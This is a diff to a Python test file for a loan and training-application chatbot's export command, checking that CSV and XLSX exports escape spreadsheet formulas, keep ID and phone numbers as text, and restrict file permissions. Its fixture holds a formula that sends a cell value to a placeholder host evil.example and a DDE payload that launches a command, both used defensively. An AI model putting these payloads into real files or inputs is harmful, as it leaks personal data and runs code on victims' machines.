@@ -4,6 +4,7 @@ from __future__ import annotations
 import csv
 import io
 import os
+import stat
 import subprocess
 import sys
 from pathlib import Path
@@ -68,7 +69,8 @@ def test_csv_has_bom_header_and_full_numbers(config, tmp_path):
     assert len(rows) == 3
     first, loan = rows[0], rows[1]
     assert first["编号"].startswith("PX") and first["类型"] == "培训报名"
-    assert first["手机号"] == PHONE and first["身份证号"] == ID
+    # The apostrophe keeps Excel and WPS from turning the numbers into 1.39123E+10.
+    assert first["手机号"] == "'" + PHONE and first["身份证号"] == "'" + ID
     assert first["姓名"] == "张三" and first["培训课程"] == "高山蔬菜" and first["乡镇"] == "石桥镇"
     assert first["返乡人员"] == "是" and loan["返乡人员"] == ""
     assert loan["编号"].startswith("DK") and loan["贷款金额（元）"] == "35000"
@@ -115,3 +117,63 @@ def test_run_py_export_command(config, tmp_path):
     assert proc.returncode == 0, proc.stderr
     assert len(out.read_text(encoding="utf-8-sig").splitlines()) == 3
     assert PHONE not in proc.stdout + proc.stderr
+
+
+FORMULA = '=HYPERLINK("http://evil.example/c/"&F2,"点击核对")'
+
+
+@pytest.fixture
+def formula_config(tmp_path: Path) -> Path:
+    """A config file on a database holding one loan whose purpose and note are formulas."""
+    settings = make_settings(tmp_path, courses=COURSES)
+    app = create_app(settings)
+    chat = Chat(app.test_client(), "o-f")
+    turns = [(FORMULA if said == "扩建茶厂" else said, expected) for said, expected in LOAN_TO_SUMMARY]
+    converse(chat, turns)
+    chat.say("确认")
+    app.extensions["bot"].close()
+    database = engine.connect(settings.storage.database)
+    ref = applications.list_applications(database)[0]["ref"]
+    applications.change_status(database, ref, "审核中", "@SUM(1+1)*cmd|' /C calc'!A0", "staff")
+    database.close()
+    path = tmp_path / "config.toml"
+    path.write_text(f'[storage]\ndatabase = "{settings.storage.database}"\n', encoding="utf-8")
+    return path
+
+
+def test_xlsx_writes_formula_looking_text_as_text(formula_config, tmp_path):
+    out = tmp_path / "f.xlsx"
+    assert export(formula_config, "--format", "xlsx", "--out", str(out)).exit_code == 0
+    sheet = load_workbook(out).active
+    header = [c.value for c in sheet[1]]
+    purpose = sheet.cell(row=2, column=header.index("资金用途") + 1)
+    note = sheet.cell(row=2, column=header.index("工作人员备注") + 1)
+    assert purpose.value == FORMULA and purpose.data_type == "s"
+    assert note.value.startswith("@SUM") and note.data_type == "s"
+    assert sheet.cell(row=2, column=header.index("身份证号") + 1).data_type == "s"
+
+
+def test_csv_marks_formula_looking_text_with_an_apostrophe(formula_config, tmp_path):
+    out = tmp_path / "f.csv"
+    assert export(formula_config, "--format", "csv", "--out", str(out)).exit_code == 0
+    row = next(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
+    assert row["资金用途"] == "'" + FORMULA
+    assert row["工作人员备注"].startswith("'@SUM")
+    assert row["身份证号"] == "'" + make_id(999) and row["手机号"] == "'13912345678"
+    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_export_file_is_owner_only_even_when_it_existed(config, tmp_path, fmt):
+    out = tmp_path / f"a.{fmt}"
+    out.write_text("old")
+    out.chmod(0o644)
+    old_umask = os.umask(0o022)
+    try:
+        assert export(config, "--format", fmt, "--out", str(out)).exit_code == 0
+        fresh = tmp_path / f"new.{fmt}"
+        assert export(config, "--format", fmt, "--out", str(fresh)).exit_code == 0
+    finally:
+        os.umask(old_umask)
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600
+    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600
